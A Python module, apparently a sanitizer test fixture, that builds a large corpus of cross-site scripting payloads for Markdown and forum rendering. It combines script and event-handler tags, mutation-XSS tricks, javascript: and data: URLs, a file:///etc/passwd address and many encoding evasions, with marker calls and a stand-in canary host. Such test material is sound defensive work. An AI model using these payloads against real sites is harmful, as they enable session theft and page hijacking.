"""What attackers type: places, things that run, and ways to hide them. Made by a script.

Each payload would call `__hit(number)` if it ran, or ask the host `CANARY` for something.
"""

from itertools import product
from typing import Final

CANARY: Final = "canary.invalid"

# Things that run, with {} for the call.
RAW: Final = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\t>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<script>{}",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<img/src=x/onerror={}>",
    "<img src=x\nonerror\n=\n{}>",
    "<img src='x`' onerror={}>",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<math href='javascript:{}'>x</math>",
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<title><a title='</title><img src=x onerror={}>'>",
    "<textarea><a title='</textarea><img src=x onerror={}>'>",
    "<style><a title='</style><img src=x onerror={}>'>",
    "<xmp><a title='</xmp><img src=x onerror={}>'>",
    "<iframe><a title='</iframe><img src=x onerror={}>'>",
    "<noembed><a title='</noembed><img src=x onerror={}>'>",
    "<template><script>{}</script></template><img src=x onerror={}>",
    "<select><template><img src=x onerror={}></template></select>",
    "<table><td><svg onload={}></table>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<object data='data:text/html,<script>parent.{}</script>'></object>",
    "<embed src='javascript:{}'>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<a href='javascript:{}' id=a>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}' form=f>x</button>",
    "<base href='//canary.invalid/'><img src=x>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='//canary.invalid/x.css'>",
    "<style>@import '//canary.invalid/x.css';</style>",
    "<p style='background:url(//canary.invalid/x)'>x</p>",
    "<p style='x:expression({})'>x</p>",
    "<div hx-get='//canary.invalid/x' hx-trigger=load>x</div>",
    "<div data-hx-on:load='{}' data-hx-get=/ data-hx-trigger=load>x</div>",
    "<div hx-on::load='{}' hx-vals='js:{x:1}'>x</div>",
    "<!--><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}> -->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><img src=x onerror={}>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={}>'>]>&y;",
    "<%= {} %><img src=x onerror={}>",
    "{{ constructor.constructor('{}')() }}",
    "{% include '{}' %}${{}}",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    '" onmouseover={} autofocus onfocus={} x="',
    "' style=animation-name:x onanimationstart={} x='",
    "`><img src=x onerror={}>",
    "</p></div></article><script>{}</script>",
    "<x onclick={} tabindex=0 autofocus onfocus={}>x</x>",
]
# Where Markdown takes an address.
PLACES: Final = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "![x](<{}>)",
    "<{}>",
    "[x]: {}\n\n[x]",
    "{}",
    "| a |\n|---|\n| [x]({}) |",
    "> [x]({})",
    "- [**x**]({})",
    "[![x]({0})]({0})",
]
ADDRESSES: Final = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6a;&#x61;vascript:{}",
    "java&Tab;script:{}",
    "java&NewLine;script:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "&#1;javascript:{}",
    "javascript://%0a{}",
    "javascript:%0a{}",
    "%6aavascript:{}",
    "vbscript:{}",
    "data:text/html,<script>parent.{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoMCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={}>",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}",
    "blob:{}",
    "file:///etc/passwd",
    "//canary.invalid/x",
    'http://canary.invalid/"onerror={}',
    "https://canary.invalid/'onmouseover={}//",
    'image:0f8fad5b-d9cb-469f-a165-70867728950e"onerror={}',
    '/forum-images/../../x" onerror={} x="',
]
# Ways to hide the raw ones.
HIDDEN: Final = {
    "plain": lambda text: text,
    "entities": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "decimal": lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    "hexadecimal": lambda text: text.replace("<", "&#x3c").replace("=", "&#x3D;"),
    "twice": lambda text: text.replace("<", "&amp;lt;"),
    "nul": lambda text: text.replace("<", "<\x00").replace("on", "o\x00n"),
    "utf-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "full width": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    "overlong": lambda text: text.replace("<", "\u00c0\u00bc"),
    "separators": lambda text: text.replace(" ", "\u2028").replace("=", "\u2029="),
    "bidi": lambda text: f"\u202e{text}\u202c",
    "escaped": lambda text: text.replace("<", "\\<"),
    "percent": lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    "js escape": lambda text: text.replace("<", "\\u003c"),
    "marks": lambda text: f"\ue000u1\ue001{text}\ue000q1,1\ue001",
    "entity marks": lambda text: f"&#xe000;u1&#xe001;{text}",
}
# Where raw ones stand in a text.
AROUND: Final = [
    "{}",
    "`{}`",
    "```{}\nx\n```",
    "```\n{}\n```",
    "# {}",
    "**{}**",
    "[{}](https://example.org)",
    "![{}](image:0f8fad5b-d9cb-469f-a165-70867728950e)",
    '[x](https://example.org "{}")',
    "[quote 1]\n{}\n[/quote]",
    "[quote 1{}]\nx\n[/quote]",
    "@[{}](0f8fad5b-d9cb-469f-a165-70867728950e)",
    "| {} |\n|---|\n| {} |",
    "1. {}\n2. x",
    "https://example.org/{}",
    "    {}",
]


def payloads() -> list[str]:
    """Every one once, the call with its place in the list."""
    shapes = [hide(raw) for raw, hide in product(RAW, HIDDEN.values())]
    shapes += [around.replace("{}", raw) for raw, around in product(RAW, AROUND)]
    shapes += [
        place.replace("{0}", "{}").replace("{}", address)
        for place, address in product(PLACES, ADDRESSES)
    ]
    unique = dict.fromkeys(shapes)
    return [one.replace("{}", f"__hit({at})") for at, one in enumerate(unique)]


def short_payloads(longest: int) -> list[str]:
    """Those that fit into names, titles and options."""
    raw = [one.replace("{}", "__hit(0)") for one in RAW]
    hidden = [
        HIDDEN[name](one) for one in raw for name in ("plain", "entities", "bidi")
    ]
    return [one for one in dict.fromkeys(hidden) if len(one) <= longest]
